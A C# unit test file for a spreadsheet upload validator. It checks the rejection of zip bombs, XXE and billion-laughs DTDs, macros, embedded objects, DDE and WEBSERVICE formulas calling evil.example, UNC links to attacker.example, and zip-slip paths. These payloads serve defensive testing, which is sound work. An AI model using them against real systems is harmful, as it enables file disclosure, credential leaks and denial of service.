using System.IO.Compression;
using System.Text;
using Supervision.Reports.Submissions.Io;
using static Supervision.Tests.Reports.Submissions.Io.TestFiles;

namespace Supervision.Tests.Reports.Submissions.Io;

public class HostileFileTests
{
    private static readonly byte[] Png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1];

    [Fact]
    public void A_png_renamed_to_xlsx_is_not_a_spreadsheet()
    {
        var e = Rejected(Png);
        Assert.Equal("file.not_spreadsheet", e.Code);
        Assert.Equal("文件不是有效的Excel工作簿（.xlsx）或CSV文件。", e.Message);
    }

    [Fact]
    public void A_pdf_renamed_to_xlsx_is_not_a_spreadsheet_even_when_it_is_all_ascii()
    {
        var pdf = Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
        Assert.Equal("file.not_spreadsheet", Rejected(pdf).Code);
    }

    [Fact]
    public void A_text_file_renamed_to_xlsx_is_read_as_csv_because_the_name_is_not_trusted()
    {
        using var book = Open(Encoding.UTF8.GetBytes("这是一段说明文字，不是表格\n第二行"), csvSheetName: "网点明细");
        Assert.Equal(["网点明细"], book.SheetNames);
        var rows = book.ReadRows("网点明细").ToList();
        Assert.Equal("这是一段说明文字，不是表格", Assert.Single(rows[0].Cells).Value);
        Assert.Equal((2, "第二行"), (rows[1].RowNumber, rows[1][0]!.Value));
    }

    [Fact]
    public void Html_or_xml_saved_as_xls_is_refused()
    {
        Assert.Equal("file.not_spreadsheet", Rejected(Encoding.UTF8.GetBytes("<html><body><table><tr><td>1</td></tr></table></body></html>")).Code);
        Assert.Equal("file.not_spreadsheet", Rejected(Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"/>")).Code);
    }

    [Fact]
    public void An_empty_file_is_not_a_spreadsheet()
    {
        Assert.Equal("file.not_spreadsheet", Rejected([]).Code);
    }

    [Fact]
    public void A_truncated_zip_is_corrupt()
    {
        var bytes = new MemoryStream();
        XlsxWriter.Write(bytes, [new XlsxSheet("S", OutletRows(200))]);
        var full = bytes.ToArray();
        foreach (var keep in new[] { full.Length / 2, full.Length - 30, 40 })
        {
            var e = Rejected(full[..keep]);
            Assert.Equal("file.corrupt", e.Code);
            Assert.Contains("损坏", e.Message);
        }
    }

    [Fact]
    public void A_zip_that_is_no_workbook_is_not_a_spreadsheet_and_one_missing_parts_is_corrupt()
    {
        var docx = Zip(new Dictionary<string, string> { ["word/document.xml"] = "<w:document xmlns:w=\"urn:x\"/>" });
        Assert.Equal("file.not_spreadsheet", Rejected(docx).Code);

        var parts = Workbook([("S", "sheet1.xml", "")]);
        parts.Remove("xl/workbook.xml");
        Assert.Equal("file.corrupt", Rejected(Zip(parts)).Code);

        parts = Workbook([("S", "sheet1.xml", "")]);
        parts.Remove("xl/_rels/workbook.xml.rels");
        Assert.Equal("file.corrupt", Rejected(Zip(parts)).Code);

        parts = Workbook([("S", "sheet1.xml", "")]);
        parts.Remove("xl/worksheets/sheet1.xml");
        var e = Rejected(Zip(parts));
        Assert.Equal("file.corrupt", e.Code);
        Assert.Contains("xl/worksheets/sheet1.xml", e.Message);

        parts = Workbook([("S", "sheet1.xml", "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>5</v></c></row>")], "<si><t>只有一个</t></si>");
        Assert.Equal("file.corrupt", Rejected(Zip(parts)).Code);
    }

    [Fact]
    public void Ole2_files_old_xls_or_encrypted_workbooks_are_refused_with_advice()
    {
        var ole = new byte[1024];
        new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.CopyTo(ole, 0);
        var e = Rejected(ole);
        Assert.Equal("file.legacy_xls", e.Code);
        Assert.Equal("不支持旧版.xls或加密的工作簿，请另存为.xlsx", e.Message);
    }

    [Fact]
    public void A_file_over_the_size_limit_is_too_large_seekable_or_not()
    {
        var bytes = OneSheet("<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>");
        var limits = new SpreadsheetLimits(MaxFileBytes: bytes.Length - 1);
        Assert.Equal("file.too_large", Assert.Throws<SpreadsheetRejectedException>(() => SpreadsheetReader.Open(new MemoryStream(bytes), limits)).Code);
        Assert.Equal("file.too_large", Assert.Throws<SpreadsheetRejectedException>(() => SpreadsheetReader.Open(new XlsxReaderTests.NonSeekableStream(bytes), limits)).Code);
        using var ok = SpreadsheetReader.Open(new MemoryStream(bytes), limits with { MaxFileBytes = bytes.Length });
    }

    private static byte[] ZerosWorkbook(int zeroBytes)
    {
        var parts = Workbook([("S", "sheet1.xml", "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>")])
            .Select(p => new KeyValuePair<string, byte[]>(p.Key, Encoding.UTF8.GetBytes(p.Value))).ToList();
        parts.Add(new("xl/media/zeros.bin", new byte[zeroBytes]));
        return ZipBytes(parts, CompressionLevel.SmallestSize);
    }

    [Fact]
    public void A_zip_bomb_over_the_uncompressed_limit_is_refused()
    {
        var bomb = ZerosWorkbook(8 * 1024 * 1024);
        Assert.True(bomb.Length < 40_000, $"the test bomb should compress about 1000:1, got {bomb.Length} bytes");
        var e = Rejected(bomb, new SpreadsheetLimits(MaxUncompressedBytes: 4 * 1024 * 1024, MaxCompressionRatio: 10_000));
        Assert.Equal("file.zip_bomb", e.Code);
        Assert.Contains("zeros.bin", e.Message);
    }

    [Fact]
    public void A_zip_bomb_over_the_compression_ratio_is_refused()
    {
        var bomb = ZerosWorkbook(8 * 1024 * 1024);
        Assert.Equal("file.zip_bomb", Rejected(bomb).Code);
        using var ok = Open(bomb, new SpreadsheetLimits(MaxCompressionRatio: 2000)); // the same file within a looser ratio opens
    }

    /// <summary>
    /// Headers that understate an entry's size are not trusted: decompression stops at the declared size (ZipArchive
    /// cuts the stream there, and the reader's own byte counter would refuse anything past it), so the part is incomplete.
    /// </summary>
    [Fact]
    public void A_zip_whose_headers_understate_the_size_is_not_read_past_the_declared_size()
    {
        var rows = string.Concat(Enumerable.Range(1, 40_000).Select(i => $"<row r=\"{i}\"><c r=\"A{i}\"><v>{i}</v></c></row>"));
        var bytes = OneSheet(rows);
        Assert.Equal(40_000, Rows(bytes).Count);
        var lying = Understate(bytes, "xl/worksheets/sheet1.xml", 5000);
        var e = Rejected(lying);
        Assert.Equal("file.corrupt", e.Code);
        Assert.Contains("xl/worksheets/sheet1.xml", e.Message);
    }

    /// <summary>Patches the uncompressed size of one entry in both its local header and the central directory.</summary>
    private static byte[] Understate(byte[] zip, string entry, int size)
    {
        var copy = (byte[])zip.Clone();
        var name = Encoding.UTF8.GetBytes(entry);
        var patched = 0;
        for (var i = 0; i + 46 < copy.Length; i++)
        {
            var sig = BitConverter.ToUInt32(copy, i);
            if (sig == 0x04034b50 && copy.AsSpan(i + 30, name.Length).SequenceEqual(name) && BitConverter.ToUInt16(copy, i + 26) == name.Length)
            {
                BitConverter.TryWriteBytes(copy.AsSpan(i + 22, 4), size);
                patched++;
            }
            else if (sig == 0x02014b50 && copy.AsSpan(i + 46, name.Length).SequenceEqual(name) && BitConverter.ToUInt16(copy, i + 28) == name.Length)
            {
                BitConverter.TryWriteBytes(copy.AsSpan(i + 24, 4), size);
                patched++;
            }
        }
        Assert.Equal(2, patched);
        return copy;
    }

    [Fact]
    public void A_dtd_or_external_entity_in_any_part_is_refused()
    {
        const string xxe = "<?xml version=\"1.0\"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
        var parts = Workbook([("S", "sheet1.xml", "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>")], "<si><t>x</t></si>");
        parts["xl/sharedStrings.xml"] = xxe + $"<sst xmlns=\"{Main}\"><si><t>&xxe;</t></si></sst>";
        var e = Rejected(Zip(parts));
        Assert.Equal("file.corrupt", e.Code);
        Assert.Contains("xl/sharedStrings.xml", e.Message);
        Assert.Contains("DTD", e.Message);

        const string laughs = "<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>";
        parts = Workbook([("S", "sheet1.xml", "")]);
        parts["xl/worksheets/sheet1.xml"] = laughs + $"<worksheet xmlns=\"{Main}\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&b;</t></is></c></row></sheetData></worksheet>";
        Assert.Equal("file.corrupt", Rejected(Zip(parts)).Code);

        parts = Workbook([("S", "sheet1.xml", "")]);
        parts["xl/workbook.xml"] = "<?xml version=\"1.0\"?><!DOCTYPE workbook SYSTEM \"http://example.invalid/x.dtd\">" + parts["xl/workbook.xml"][38..];
        Assert.Equal("file.corrupt", Rejected(Zip(parts)).Code);
    }

    [Fact]
    public void Deeply_nested_xml_is_refused()
    {
        var deep = string.Concat(Enumerable.Repeat("<x>", 5000)) + string.Concat(Enumerable.Repeat("</x>", 5000));
        var e = Rejected(OneSheet($"<row r=\"1\"><c r=\"A1\"><v>1</v></c></row><row r=\"2\"><c r=\"A2\">{deep}<v>2</v></c></row>"));
        Assert.Equal("file.corrupt", e.Code);
        Assert.Contains("嵌套", e.Message);
        Assert.Equal("file.corrupt", Rejected(OneSheet("", $"<si>{deep}</si>")).Code);
    }

    [Fact]
    public void Too_many_rows_are_refused_with_the_sheet_name()
    {
        var rows = string.Concat(Enumerable.Range(1, 11).Select(i => $"<row r=\"{i}\"><c r=\"A{i}\"><v>{i}</v></c></row>"));
        var bytes = OneSheet(rows, name: "网点明细");
        Assert.Equal(11, Rows(bytes, limits: new SpreadsheetLimits(MaxRowsPerSheet: 11)).Count);
        var e = Rejected(bytes, new SpreadsheetLimits(MaxRowsPerSheet: 10));
        Assert.Equal("file.too_many_rows", e.Code);
        Assert.Equal("工作表“网点明细”超过10行", e.Message);
        // The same row number repeated does not get round the limit.
        var repeated = OneSheet(string.Concat(Enumerable.Repeat("<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>", 11)));
        Assert.Equal("file.too_many_rows", Rejected(repeated, new SpreadsheetLimits(MaxRowsPerSheet: 10)).Code);
        Assert.Equal("工作表“网点明细”超过300000行", Rejected(OneSheet("<row r=\"300001\"><c r=\"A300001\"><v>1</v></c></row>", name: "网点明细")).Message);
    }

    [Fact]
    public void Too_many_columns_are_refused()
    {
        var e = Rejected(OneSheet("<row r=\"3\"><c r=\"A3\"><v>1</v></c><c r=\"F3\"><v>1</v></c></row>", name: "汇总"), new SpreadsheetLimits(MaxColumns: 5));
        Assert.Equal("file.too_many_columns", e.Code);
        Assert.Equal("工作表“汇总”第3行超过5列", e.Message);
    }

    [Fact]
    public void A_cell_over_the_character_limit_is_refused_with_its_address()
    {
        var big = new string('长', 40_000);
        var inline = Rejected(OneSheet($"<row r=\"7\"><c r=\"C7\" t=\"inlineStr\"><is><t>{big}</t></is></c></row>", name: "汇总"));
        Assert.Equal("file.cell_too_long", inline.Code);
        Assert.Equal("工作表“汇总”单元格C7内容超过32767个字符", inline.Message);

        var shared = Rejected(OneSheet("<row r=\"2\"><c r=\"B2\" t=\"s\"><v>0</v></c></row>", $"<si><t>{big}</t></si>", name: "汇总"));
        Assert.Equal("工作表“汇总”单元格B2内容超过32767个字符", shared.Message);

        var limits = new SpreadsheetLimits(MaxCellChars: 5);
        Assert.Equal("工作表“S”单元格A1内容超过5个字符", Rejected(OneSheet("<row r=\"1\"><c r=\"A1\"><v>123456</v></c></row>", name: "S"), limits).Message);
        Assert.Single(Rows(OneSheet("<row r=\"1\"><c r=\"A1\"><v>12345</v></c></row>"), limits: limits));
    }

    [Fact]
    public void Too_many_sheets_are_refused()
    {
        var bytes = Zip(Workbook(Enumerable.Range(1, 4).Select(i => ($"S{i}", $"sheet{i}.xml", "")).ToList()));
        Assert.Equal("file.too_many_sheets", Rejected(bytes, new SpreadsheetLimits(MaxSheets: 3)).Code);
    }

    [Fact]
    public void Bad_references_are_corrupt_not_crashes()
    {
        Assert.Equal("file.corrupt", Rejected(OneSheet("<row r=\"0\"><c><v>1</v></c></row>")).Code);
        Assert.Equal("file.corrupt", Rejected(OneSheet("<row r=\"1\"><c r=\"1A\"><v>1</v></c></row>")).Code);
        Assert.Equal("file.corrupt", Rejected(OneSheet("<row r=\"1\"><c r=\"A1\"><v>1</v></c><c r=\"A1\"><v>2</v></c></row>")).Code);
        Assert.Equal("file.corrupt", Rejected(OneSheet("<row r=\"1\"><c r=\"A1\"><v>1</v></c>")).Code);
    }

    private const string PackageRels = "http://schemas.openxmlformats.org/package/2006/relationships";

    private static Dictionary<string, string> ValidBook() => Workbook([("S", "sheet1.xml", "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>")]);

    /// <summary>The workbook's relationships plus one more.</summary>
    private static Dictionary<string, string> WithWorkbookRelationship(Dictionary<string, string> parts, string type, string target, bool external = false)
    {
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].Replace("</Relationships>",
            $"<Relationship Id=\"rIdX\" Type=\"{type}\" Target=\"{target}\"{(external ? " TargetMode=\"External\"" : "")}/></Relationships>");
        return parts;
    }

    [Fact]
    public void A_workbook_with_macros_is_refused_even_when_its_sheets_are_valid()
    {
        var parts = ValidBook();
        parts["xl/vbaProject.bin"] = "\u00d0\u00cf\u0011\u00e0";
        var e = Rejected(Zip(parts));
        Assert.Equal("file.macro", e.Code);
        Assert.Contains("xl/vbaProject.bin", e.Message);

        // Renamed, it is found by the relationship that makes Excel load it.
        parts = WithWorkbookRelationship(ValidBook(), "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "data.bin");
        parts["xl/data.bin"] = "x";
        Assert.Equal("file.macro", Rejected(Zip(parts)).Code);

        // Excel 4.0 macro sheets.
        parts = ValidBook();
        parts["xl/macrosheets/sheet1.xml"] = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>";
        Assert.Equal("file.macro", Rejected(Zip(parts)).Code);

        Assert.Single(Rows(Zip(ValidBook())));
    }

    [Fact]
    public void Embedded_objects_and_controls_are_refused()
    {
        var parts = ValidBook();
        parts["xl/embeddings/oleObject1.bin"] = "x";
        Assert.Equal("file.embedded_object", Rejected(Zip(parts)).Code);
        parts = ValidBook();
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = $"<Relationships xmlns=\"{PackageRels}\"><Relationship Id=\"rId1\" "
            + $"Type=\"{Rel}/oleObject\" Target=\"../objects/payload.bin\"/></Relationships>";
        parts["xl/objects/payload.bin"] = "MZ";
        Assert.Equal("file.embedded_object", Rejected(Zip(parts)).Code);
    }

    [Theory]
    [InlineData("[1]Sheet1!A1", "其他工作簿")]
    [InlineData("SUM('C:\\data\\[book.xlsx]Sheet 1'!A1:A3)", "其他工作簿")]
    [InlineData("[2]!Rate*2", "其他工作簿")]
    [InlineData("_xlfn.WEBSERVICE(\"http://evil.example/\"&A2)", "WEBSERVICE")]
    [InlineData("_xlfn.FILTERXML(B1,\"//a\")", "FILTERXML")]
    [InlineData("cmd|' /c calc'!A0", "DDE")]
    [InlineData("'\\\\host\\share\\[a.xlsx]S'!A1", "网络共享")]
    [InlineData("HYPERLINK(\"\\\\attacker.example\\share\\x.exe\",\"点此\")", "网络共享")]
    [InlineData("hyperlink(\"FILE:///C:/Windows/System32/calc.exe\",\"点此\")", "HYPERLINK")]
    public void Formulas_reaching_outside_are_refused_naming_the_sheet_and_cell(string formula, string what)
    {
        // In a sheet the return does not use: Excel opens every sheet.
        var parts = Workbook([("S", "sheet1.xml", "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>"),
            ("计算", "sheet2.xml", $"<row r=\"7\"><c r=\"C7\"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>0</v></c></row>")]);
        var e = Rejected(Zip(parts));
        Assert.Equal("file.external_formula", e.Code);
        Assert.Contains("工作表“计算”单元格C7", e.Message);
        Assert.Contains(what, e.Message);
    }

    [Fact]
    public void A_defined_name_reaching_outside_is_refused_and_ordinary_formulas_are_not()
    {
        var parts = ValidBook();
        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].Replace("</workbook>", "<definedNames><definedName name=\"汇率\">_xlfn.WEBSERVICE(\"http://evil.example/\")</definedName></definedNames></workbook>");
        var e = Rejected(Zip(parts));
        Assert.Equal("file.external_formula", e.Code);
        Assert.Contains("名称“汇率”", e.Message);

        // Formulas that stay inside the file: ranges, other sheets, tables' columns, a web hyperlink, text that mentions a pipe or a path.
        var formulas = new[] { "SUM(A1:A3)", "'其他 表'!B2*2", "SUM(表1[金额])&Sheet2!A1", "表1[[#This Row],[数量]]", "HYPERLINK(\"https://www.miit.gov.cn/\",\"工信部\")",
            "\"a|b\"&\"[1]S!A1\"", "IF(A1>0,\"是\",\"否\")" };
        var sheet = string.Concat(formulas.Select((f, i) => $"<row r=\"{i + 1}\"><c r=\"A{i + 1}\"><f>{System.Security.SecurityElement.Escape(f)}</f><v>0</v></c></row>"));
        Assert.Equal(formulas.Length, Rows(Zip(Workbook([("S", "sheet1.xml", sheet)]))).Count);
    }

    [Fact]
    public void External_links_and_data_connections_are_refused_but_hyperlinks_in_cells_are_not()
    {
        var parts = ValidBook();
        parts["xl/externalLinks/externalLink1.xml"] = $"<externalLink xmlns=\"{Main}\"/>";
        var e = Rejected(Zip(parts));
        Assert.Equal("file.external_link", e.Code);
        Assert.Contains("编辑链接", e.Message);

        parts = ValidBook();
        parts["xl/connections.xml"] = $"<connections xmlns=\"{Main}\"/>";
        Assert.Equal("file.external_link", Rejected(Zip(parts)).Code);

        // An image linked from a network share is fetched when the file opens (and leaks the reader's credentials).
        parts = ValidBook();
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = $"<Relationships xmlns=\"{PackageRels}\"><Relationship Id=\"rId1\" Type=\"{Rel}/image\" "
            + "Target=\"file://attacker.example/share/logo.png\" TargetMode=\"External\"/></Relationships>";
        e = Rejected(Zip(parts));
        Assert.Equal("file.external_link", e.Code);
        Assert.Contains("attacker.example", e.Message);

        parts = ValidBook();
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = $"<Relationships xmlns=\"{PackageRels}\"><Relationship Id=\"rId1\" Type=\"{Rel}/hyperlink\" "
            + "Target=\"https://www.miit.gov.cn/\" TargetMode=\"External\"/></Relationships>";
        Assert.Single(Rows(Zip(parts)));
    }

    [Theory]
    [InlineData("../../evil.sh")]
    [InlineData("xl/../../evil.sh")]
    [InlineData("/etc/cron.d/evil")]
    [InlineData("\\\\server\\share\\evil")]
    [InlineData("C:/Windows/evil.dll")]
    public void Entries_that_would_unzip_outside_their_folder_are_refused(string entry)
    {
        var parts = ValidBook();
        parts[entry] = "x";
        var e = Rejected(Zip(parts));
        Assert.Equal("file.unsafe_path", e.Code);
        Assert.Contains("路径不安全", e.Message);
    }

    [Fact]
    public void The_name_must_fit_the_content_when_it_is_given()
    {
        var xlsx = Zip(ValidBook());
        var csv = Encoding.UTF8.GetBytes("a,b\n1,2\n");
        using (SpreadsheetReader.Open(new MemoryStream(xlsx), new SpreadsheetLimits(), fileName: "月报.XLSX")) { }
        using (SpreadsheetReader.Open(new MemoryStream(csv), new SpreadsheetLimits(), fileName: "日志.csv")) { }
        foreach (var (bytes, name) in new[] { (xlsx, "月报.csv"), (xlsx, "月报.xlsm"), (xlsx, "rnxslx.exe"), (csv, "日志.xlsx"), (csv, "日志") })
        {
            var e = Assert.Throws<SpreadsheetRejectedException>(() => SpreadsheetReader.Open(new MemoryStream(bytes), new SpreadsheetLimits(), fileName: name));
            Assert.Equal("file.extension_mismatch", e.Code);
            Assert.Contains(name, e.Message);
        }
    }
}
